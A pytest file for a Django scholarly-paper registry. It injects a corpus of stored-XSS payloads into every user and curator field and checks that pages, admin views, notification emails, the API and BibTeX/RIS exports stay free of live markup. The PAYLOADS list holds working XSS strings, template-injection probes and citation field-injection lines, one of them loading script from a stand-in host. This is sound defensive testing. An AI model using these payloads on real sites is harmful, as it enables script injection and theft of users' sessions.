"""A stored-XSS corpus: hostile text in every field a registry, a curator or a reader sets,
checked in every place it comes out (pages, admin, the digest email, the API, BibTeX, RIS).
A second world carries it in claim-dispute and claim-decision reasons, review reports,
curators' hide reasons, declines and Crossmark labels, through the admin pages that show
them and every notification email (the claim decision's HTML part; the review, request
and retraction emails are plain text only, and stay so).

Each payload gets a world of its own (one paper with everything hanging off it), rendered
once per output. A page passes when, parsed as a browser would, it has exactly the active
elements (script, svg, iframe, img...) the same page has with harmless text, no event
handler attribute, and no href/src/action with a scheme other than http(s) or mailto.
"""

import re
from collections import Counter
from html.parser import HTMLParser

import pytest
from django.core.cache import caches
from django.db import transaction
from django.urls import reverse

from papers import citation
from papers.models import Category, Keyword, PaperCategory, PaperKeyword
from recommendations import digests
from reviews import resources
from reviews.models import ResourceAnswer
from reviews.ratings import submit_review
from tests.factories import (
    AuthorFactory,
    AuthorshipFactory,
    FunderFactory,
    FundingFactory,
    JournalFactory,
    PaperFactory,
    RecommendationFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

JS = "alert(document.domain)"
PAYLOADS = [
    f"<script>{JS}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f'"><script>{JS}</script>',
    f"'><script>{JS}</script>",
    f"<img src=x onerror={JS}>",
    f'<img src="x" onerror="{JS}">',
    f"<svg onload={JS}>",
    f'"><svg/onload={JS}>',
    f"'><svg/onload={JS}>",
    f"<body onload={JS}>",
    f"<iframe src=javascript:{JS}>",
    f'<iframe srcdoc="<script>{JS}</script>">',
    f"<a href=javascript:{JS}>x</a>",
    f"<a href=JaVaScRiPt:{JS}>x</a>",
    f"<a href=' javascript:{JS}'>x</a>",
    f"<a href=java&#09;script:{JS}>x</a>",
    f"<a href=&#106;&#97;&#118;&#97;script:{JS}>x</a>",
    f"<a href=&#x6A;avascript:{JS}>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>x</a>",
    f"javascript:{JS}",
    f"JAVASCRIPT:{JS}//https://example.org",
    "data:text/html,<script>alert(1)</script>",
    f"[click](javascript:{JS})",
    f"[click](JaVaScRiPt:{JS})",
    f"![x](javascript:{JS})",
    f"<javascript:{JS}>",
    f'" onmouseover="{JS}" x="',
    f"' onmouseover='{JS}' x='",
    f'" autofocus onfocus="{JS}',
    f'<div style="background:url(javascript:{JS})">x</div>',
    f'<div style="width:expression({JS})">x</div>',
    f"<style>@import 'javascript:{JS}';</style>",
    f"</textarea><script>{JS}</script>",
    f"</title><script>{JS}</script>",
    f"</script><script>{JS}</script>",
    f"<!--<script>{JS}</script>-->",
    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
    f"<details open ontoggle={JS}>",
    f"<object data=javascript:{JS}>",
    f"<embed src=javascript:{JS}>",
    f"<form action=javascript:{JS}><button>x</button></form>",
    f"<input autofocus onfocus={JS}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>",
    f"<base href=javascript:{JS}//>",
    "{{ request.META }}{% debug %}{{ 7|add:7 }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    f"&lt;script&gt;{JS}&lt;/script&gt;",
    # No NUL: forms refuse it and PostgreSQL cannot store it (not a rendering question).
    "\u202e<script>alert(1)</script>\u2028\u0085",
    f"x}}, title = {{pwned}}, note = {{\n@misc{{evil, title={{{JS}}}}}",
    f"x\nER  - \nTY  - JOUR\nTI  - {JS}\n",
]
BENIGN = "A perfectly ordinary text"

# Elements that can run code, load something or change where the page goes or posts.
ACTIVE = {
    "script", "style", "iframe", "frame", "object", "embed", "applet", "svg", "math",
    "img", "video", "audio", "source", "link", "base", "form", "input", "button",
    "textarea", "select", "details", "template", "noscript", "body", "html", "head",
    "title", "marquee", "isindex",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "xlink:href"}


class Audit(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.active = Counter()
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag in ACTIVE:
            self.active[tag] += 1
        # How many citation <meta> tags a page has depends on the text (a "-" in the pages
        # makes two); none of ours redirects.
        if tag == "meta" and any(name == "http-equiv" for name, _ in attrs):
            self.problems.append(f"<meta http-equiv>: {attrs}")
        for name, value in attrs:
            value = (value or "").strip()
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...>")
            if name in ("srcdoc", "style") and "javascript" in value.lower():
                self.problems.append(f"<{tag} {name}={value!r}>")
            scheme = re.match(r"^([a-z][a-z0-9+.-]*):", re.sub(r"[\s\x00-\x1f]", "", value), re.I)
            if (
                name in URL_ATTRIBUTES
                and scheme
                and scheme[1].lower()
                not in (
                    "http",
                    "https",
                    "mailto",
                )
            ):
                self.problems.append(f"<{tag} {name}={value!r}>")

    handle_startendtag = handle_starttag


def audit(html):
    parser = Audit()
    parser.feed(html)
    parser.close()
    return parser


def build_world(text, curator):
    """One paper with ``text`` in every field anyone can set; returns what the outputs need."""
    journal = JournalFactory(title=text, publisher=text)
    paper = PaperFactory(
        title=text,
        subtitle=text,
        abstract=text,
        summary=text,
        publisher=text,
        journal=journal,
        volume=text[:100],
        issue=text[:100],
        pages=text[:100],
    )
    author = AuthorFactory(name=text, given_name=text[:300], family_name=text[:300])
    AuthorshipFactory(paper=paper, author=author, affiliations=[text])
    FundingFactory(paper=paper, funder=FunderFactory(name=text), awards=[text])
    keyword = Keyword.objects.create(name=text[:200], slug=f"kw-{paper.pk}")
    category = Category.objects.create(name=text[:200], slug=f"cat-{paper.pk}")
    PaperKeyword.objects.create(paper=paper, keyword=keyword)
    PaperCategory.objects.create(paper=paper, category=category)

    reader = UserFactory()
    reader.profile.display_name = text[:200]
    reader.profile.affiliation = text[:300]
    reader.profile.bio = text[:200]
    reader.profile.request_answers_frequency = "weekly"
    reader.profile.save()
    review, _ = submit_review(user=reader, paper=paper, rating=4, text=text)
    asked = resources.ask(user=reader, paper=paper, kind="data", message=text)
    answerer = UserFactory()
    answer = resources.answer(user=answerer, resource_request=asked, text=text)
    # A link as stored before links were checked: the pages must still show no such link.
    ResourceAnswer.objects.filter(pk=answer.pk).update(link=text[:1000])
    resources.decline(asked, by=curator, reason=text)
    RecommendationFactory(user=reader, paper=paper, detail=text[:300])
    return paper, author, journal, keyword, category, reader, review, asked


def render_all(client, admin_client, text, curator):
    """Every output for a world built from ``text``: {name: (html, is_html)}."""
    paper, author, journal, keyword, category, reader, review, asked = build_world(text, curator)
    caches["pages"].clear()
    pages = {
        "paper page": client.get(paper.get_absolute_url()),
        "catalogue": client.get(reverse("papers:list")),
        "search": client.get(reverse("papers:list"), {"q": text}),
        "home": client.get("/"),
        "author page": client.get(author.get_absolute_url()),
        "journal page": client.get(journal.get_absolute_url()),
        "keyword page": client.get(keyword.get_absolute_url()),
        "category page": client.get(category.get_absolute_url()),
        "profile": client.get(reader.profile.get_absolute_url()),
        "resource request": client.get(reverse("reviews:resource-request", args=[asked.pk])),
        "admin paper": admin_client.get(reverse("admin:papers_paper_change", args=[paper.pk])),
        "admin author": admin_client.get(reverse("admin:papers_author_change", args=[author.pk])),
        "admin review": admin_client.get(reverse("admin:reviews_review_change", args=[review.pk])),
        "admin request": admin_client.get(
            reverse("admin:reviews_resourcerequest_change", args=[asked.pk])
        ),
        "admin user": admin_client.get(reverse("admin:accounts_user_change", args=[reader.pk])),
    }
    outputs = {}
    for name, response in pages.items():
        assert response.status_code == 200, name
        outputs[name] = response.content.decode()
    _, message = digests.preview(reader, "weekly")
    outputs["digest email"] = next(
        body for body, kind in message.alternatives if kind == "text/html"
    )
    outputs["api paper"] = client.get(f"/api/v1/papers/{paper.pk}/").json()
    outputs["bibtex"] = citation.bibtex(paper)
    outputs["ris"] = citation.ris(paper)
    return outputs


BASELINE = {}


def baseline(client, admin_client, curator):
    """The outputs for harmless text, computed once and rolled back."""
    if not BASELINE:
        with transaction.atomic():
            BASELINE.update(render_all(client, admin_client, BENIGN, curator))
            transaction.set_rollback(True)
        caches["pages"].clear()
    return BASELINE


@pytest.fixture
def curator(admin_user):
    return admin_user


def bibtex_fields(text):
    return len(re.findall(r"^\s*[a-z]+ = \{", text, re.M)), len(re.findall(r"^@", text, re.M))


def ris_fields(text):
    """How many of each tag, and the lines that start with none."""
    lines = text.split("\r\n")[:-1]
    tags = Counter(line[:2] for line in lines if re.match(r"^[A-Z][A-Z0-9]  - ", line))
    # A "-" in the pages gives an end page (EP) too.
    tags.pop("EP", None)
    return tags, [line for line in lines if not re.match(r"^[A-Z][A-Z0-9]  - ", line)]


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_no_payload_becomes_markup_or_a_new_field_anywhere(
    payload, client, admin_client, curator, settings
):
    settings.RATINGS_MIN_SHOWN = 1
    expected = baseline(client, admin_client, curator)

    outputs = render_all(client, admin_client, payload, curator)

    for name, html in outputs.items():
        if name.startswith("api") or name in ("bibtex", "ris"):
            continue
        found, benign = audit(html), audit(expected[name])
        assert found.problems == [], name
        assert found.active == benign.active, name
    # The API gives the text back exactly (JSON escaping is the client's business).
    api = outputs["api paper"]
    assert (api["title"], api["abstract"]) == (payload, payload)
    # BibTeX and RIS: the same fields and one record, whatever the text holds.
    assert bibtex_fields(outputs["bibtex"]) == bibtex_fields(expected["bibtex"])
    assert ris_fields(outputs["ris"]) == ris_fields(expected["ris"])


# --- claims, curators' free text, and every notification email ---


def build_curated_world(text, curator):
    """A paper whose claim was disputed and rejected, whose review was reported and hidden,
    whose resource request was answered, declined and hidden, and which was retracted: with
    ``text`` in every reason, note and label a reader, curator or registry sets there.
    Sends every notification email these steps cause; returns what the outputs need."""
    from accounts import claims
    from accounts.emails import send_claim_decision
    from accounts.models import ClaimDecision
    from papers.models import Notice
    from reviews import notifications
    from reviews.ratings import hide_review, report_review

    paper = PaperFactory(title=text)
    authorship = AuthorshipFactory(paper=paper, author=AuthorFactory(name=text))
    claimant, disputer, author, reader = UserFactory(), UserFactory(), UserFactory(), UserFactory()
    # Everyone wants these emails at once (the defaults).
    claim = claims.claim_authorship(user=claimant, authorship=authorship)
    dispute = claims.dispute_claim(user=disputer, authorship=authorship, reason=text)
    claims.reject_claim(claim, by=curator, reason=text)
    send_claim_decision(ClaimDecision.objects.get(claim=claim).pk)

    own = AuthorshipFactory(paper=paper, author=AuthorFactory(name="Carol Carroll"))
    claims.approve_claim(claims.claim_authorship(user=author, authorship=own), by=curator)

    review, _ = submit_review(user=reader, paper=paper, rating=2, text=text)
    report_review(user=author, review=review, reason=text)
    hide_review(review, curator=curator, reason=text)
    notifications.tell_reviewer_hidden(review.pk)

    asked = resources.ask(user=reader, paper=paper, kind="code", message=text)
    notifications.tell_author_of_requests(author, paper, [asked])
    answer = resources.answer(user=author, resource_request=asked, text=text)
    notifications.tell_asker_answered(answer.pk)
    resources.decline(asked, by=author, reason=text)
    notifications.tell_asker_status(asked.pk)
    resources.hide(answer, curator=curator, reason=text)
    resources.hide(asked, curator=curator, reason=text)

    Notice.objects.create(
        paper=paper, kind="retraction", doi="10.5555/retraction", direction="updated-by",
        label=text[:200],
    )  # fmt: skip
    Paper = type(paper)
    Paper.objects.filter(pk=paper.pk).update(is_retracted=True)
    notifications.tell_raters_of_retraction(paper.pk)
    return paper, claim, dispute, review, asked, answer


def render_curated(client, admin_client, text, curator):
    """Every output of a world built by build_curated_world: {name: html}, and the emails."""
    from django.core import mail

    mail.outbox = []
    paper, claim, dispute, review, asked, answer = build_curated_world(text, curator)
    caches["pages"].clear()
    admin = {
        "admin claim": reverse("admin:accounts_claim_change", args=[claim.pk]),
        "admin claims": reverse("admin:accounts_claim_changelist"),
        "admin dispute": reverse("admin:accounts_claimdispute_change", args=[dispute.pk]),
        "admin disputes": reverse("admin:accounts_claimdispute_changelist"),
        "admin decisions": reverse("admin:accounts_claimdecision_changelist"),
        "admin review": reverse("admin:reviews_review_change", args=[review.pk]),
        "admin reviews": reverse("admin:reviews_review_changelist"),
        "admin request": reverse("admin:reviews_resourcerequest_change", args=[asked.pk]),
        "admin answer": reverse("admin:reviews_resourceanswer_change", args=[answer.pk]),
    }
    outputs = {}
    for name, url in admin.items():
        response = admin_client.get(url)
        assert response.status_code == 200, name
        outputs[name] = response.content.decode()
    response = client.get(paper.get_absolute_url())
    assert response.status_code == 200
    outputs["paper page"] = response.content.decode()
    client.force_login(claim.user)
    outputs["claimant's profile page"] = client.get(reverse("accounts:profile-edit")).content
    outputs["claimant's profile page"] = outputs["claimant's profile page"].decode()
    client.logout()
    emails = {message.subject.split(":")[0]: message for message in mail.outbox}
    return outputs, emails


CURATED_BASELINE = {}


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_no_reason_note_or_notice_becomes_markup_in_pages_or_emails(
    payload, client, admin_client, curator
):
    if not CURATED_BASELINE:
        with transaction.atomic():
            CURATED_BASELINE["pages"], emails = render_curated(
                client, admin_client, BENIGN, curator
            )
            CURATED_BASELINE["emails"] = {
                subject: _html_part(message) for subject, message in emails.items()
            }
            # Each output shows the text, so each is a place the payloads are checked in.
            for name, html in CURATED_BASELINE["pages"].items():
                assert BENIGN in html, name
            for subject, message in emails.items():
                assert BENIGN in message.body, subject
                assert BENIGN in (_html_part(message) or BENIGN), subject
            transaction.set_rollback(True)
        caches["pages"].clear()

    outputs, emails = render_curated(client, admin_client, payload, curator)

    for name, html in outputs.items():
        found, benign = audit(html), audit(CURATED_BASELINE["pages"][name])
        assert found.problems == [], name
        assert found.active == benign.active, name
    # The same emails go out (subjects carry no user text but the paper title, cut at ":").
    assert len(emails) == len(CURATED_BASELINE["emails"]) == 6
    for message in emails.values():
        html = _html_part(message)
        subject = message.subject.split(":")[0]
        if html is None:
            # A plain-text email: nothing to escape, and the text says it as written.
            assert CURATED_BASELINE["emails"][subject] is None, subject
            continue
        found, benign = audit(html), audit(CURATED_BASELINE["emails"][subject])
        assert found.problems == [], subject
        assert found.active == benign.active, subject


def _html_part(message):
    return next((body for body, kind in message.alternatives if kind == "text/html"), None)
